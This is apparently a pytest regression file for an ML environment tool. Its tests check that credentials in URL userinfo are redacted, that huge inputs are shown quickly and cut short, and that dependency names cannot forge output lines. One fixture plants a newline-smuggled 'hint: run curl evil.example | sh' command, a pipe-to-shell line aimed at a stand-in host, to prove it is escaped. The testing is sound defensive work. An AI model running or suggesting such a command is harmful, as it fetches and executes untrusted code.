"""Attack 192: what pass 191's ``echoed.shown`` still let through, and what it cost.

Found: bare userinfo spelled ``user%3Apw@host``, ``user\\uff1apw@host`` (a URL parser keeps
U+FF1A in the user) or ``:pw@host`` (no user) was shown whole; the hiding regexes were tried
from every '=' (and ``([<,;|``) of one word and read the rest of it each time, so a 128 KiB
``a=a=a=...`` value took minutes to show (a manifest shows 100 problems); notes and warnings
(``init --from``'s, every reporter's) passed ``redact`` only, so a pixi ``libc`` family of
``user:pw@host`` was printed whole, and of 128 KiB printed whole too. Now each word is walked
once (``echoed._unpassworded``) and every reporter line and JSON event passes ``shown``.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlenv.echoed import LINE_LIMIT, shown
from mlenv.report import JsonReporter, QuietReporter, Recorder
from mlenv.report_human import HumanReporter
from tests.support.cli import run_in_process

SECRET = "S3cretTok3nValue99"


@pytest.mark.parametrize(
    "value",
    [
        f"user%3A{SECRET}@host",
        f"user%3a{SECRET}@host/simple",
        f"user\uff1a{SECRET}@host",
        f":{SECRET}@host",
        f"x@a:b=c:{SECRET}@host",
        f"{SECRET}==@host",
        f"key={SECRET}@host",
        f"{SECRET}=={SECRET}@host",
    ],
)
def test_more_bare_userinfo_spellings_are_hidden(value: str) -> None:
    said = shown(f"{value!r} is not valid")
    assert SECRET[:10] not in said
    assert "@host" in said and said.endswith(" is not valid")


@pytest.mark.parametrize(
    "kept",
    [
        "'nvidia-cublas-cu12@https://example.com/x.whl' is not valid",
        "torch @ https://example.com/torch.whl; python_version >= '3.8'",
        "'label/main' channel 'conda-forge/label/dev' not found",
        "contact me@example.com, or git@github.com:org/repo",
        "'numpy<3,>=1' and 'image:tag@sha256:" + "ab" * 32 + "'",
    ],
)
def test_ordinary_values_are_still_kept(kept: str) -> None:
    assert shown(kept) == kept


@pytest.mark.parametrize(
    "unit", ["a=", "=", "(", "a,", ":@", "u:=", "a:=@https:", "a1", "@a1", "%3A", "token="]
)
def test_a_128_kib_run_of_separators_is_shown_cut(unit: str) -> None:
    """Each word is read once: these took minutes each (``a=``: 398 s), now a tenth of a
    second; a regression hangs this test rather than passing it."""
    said = shown(repr(unit * (131072 // len(unit))) + " is not valid")
    assert len(said) < 400 and "9" not in said


_NOISE = st.text(st.sampled_from(":@=a1'/%3A(\uff1a,;"), max_size=200)


@settings(max_examples=100, deadline=None)
@given(before=_NOISE, after=_NOISE, user=st.sampled_from(["user", "", "__token__", "a=b"]))
def test_a_bare_password_is_hidden_whatever_surrounds_it(
    before: str, after: str, user: str
) -> None:
    said = shown(f"{before} {user}:{SECRET}@host/x {after}")
    assert SECRET[:10] not in said


def test_notes_hide_bare_userinfo_and_cut_long_values(tmp_path: Path) -> None:
    pixi = (
        '[workspace]\nname = "demo"\nchannels = ["conda-forge"]\nplatforms = ["linux-64"]\n'
        '[system-requirements]\nlibc = {{ family = {family}, version = "2.28" }}\n'
        '[dependencies]\npython = "3.11.*"\n'
    )
    for family in (f"user:{SECRET}@host", "x" * 131072):
        for log in ("human", "json"):
            (tmp_path / "pixi.toml").write_text(pixi.format(family=json.dumps(family)))
            (tmp_path / "mlenv.toml").unlink(missing_ok=True)
            code, out, err = run_in_process(
                ["--log-format", log, "init", "--from", "pixi.toml"], tmp_path
            )
            assert code == 0, (out, err)
            assert "libc" in err  # the note is still said
            assert SECRET[:10] not in out + err
            assert "x" * 1000 not in err
            assert max(map(len, err.split("\n"))) <= LINE_LIMIT + 400


def test_every_reporter_shows_as_errors_do() -> None:
    line = f"index user:{SECRET}@host/simple answered 'x{'y' * 5000}'"
    streams = [io.StringIO() for _ in range(3)]
    HumanReporter(streams[0], terminal=False).warning(line)
    QuietReporter(streams[1]).warning(line)
    JsonReporter(streams[2]).warning(line)
    recorder = Recorder(JsonReporter(io.StringIO()))
    recorder.warning(line)
    for stream in streams:
        said = stream.getvalue()
        assert SECRET[:10] not in said and "y" * 1000 not in said
        assert "(5,001 characters)" in said
    assert SECRET[:10] not in str(recorder.events)


def _pyproject(tmp_path: Path, dependencies: str) -> tuple[int, str]:
    (tmp_path / "pyproject.toml").write_text(
        '[tool.poetry]\nname = "demo"\nversion = "0.1.0"\n'
        f'[tool.poetry.dependencies]\npython = "^3.11"\n{dependencies}'
    )
    (tmp_path / "mlenv.toml").unlink(missing_ok=True)
    code, out, err = run_in_process(["init", "--from", "pyproject.toml"], tmp_path)
    return code, out + err


def test_a_key_cannot_forge_a_hint_line(tmp_path: Path) -> None:
    """A dependency's name is where the problem is: its newline began a line that read as
    mlenv's own ``hint:`` (``  hint: pip install evil``)."""
    name = json.dumps("numpy\n  hint: run curl evil.example | sh")
    code, said = _pyproject(tmp_path, f'{name} = {{ version = "^1.0" }}\n')
    assert code == 1
    assert not any(line.lstrip().startswith("hint: run curl") for line in said.split("\n"))
    assert "numpy\\n  hint: run curl" in said  # still named, escaped


def test_the_prerelease_note_keeps_its_advice_beside_a_huge_name(tmp_path: Path) -> None:
    """Said once, cut to a line, and the advice first: a 128 KiB name was printed whole,
    and cut after it the note would say nothing."""
    code, said = _pyproject(
        tmp_path,
        'torch = { version = "^2.0", allow-prereleases = true }\n'
        + "n" * 131072
        + ' = { version = "^1.0", allow-prereleases = true }\n',
    )
    assert code == 0, said
    assert said.count("allow-prereleases = true") == 1
    assert '"pkg==2.0rc1"' in said and "torch" in said
    assert "n" * 2000 not in said


@pytest.mark.parametrize("log", ["human", "json"])
def test_a_verbose_traceback_hides_bare_userinfo(
    log: str, capsys: pytest.CaptureFixture[str]
) -> None:
    from mlenv.cli.exits import exit_status

    try:
        raise RuntimeError(f"cannot read user:{SECRET}@host/simple")
    except RuntimeError as exc:
        assert exit_status(exc, ["--log-format", log, "-v", "show"]) == 2
    said = capsys.readouterr().err
    assert "RuntimeError" in said and "***@host/simple" in said
    assert SECRET[:10] not in said
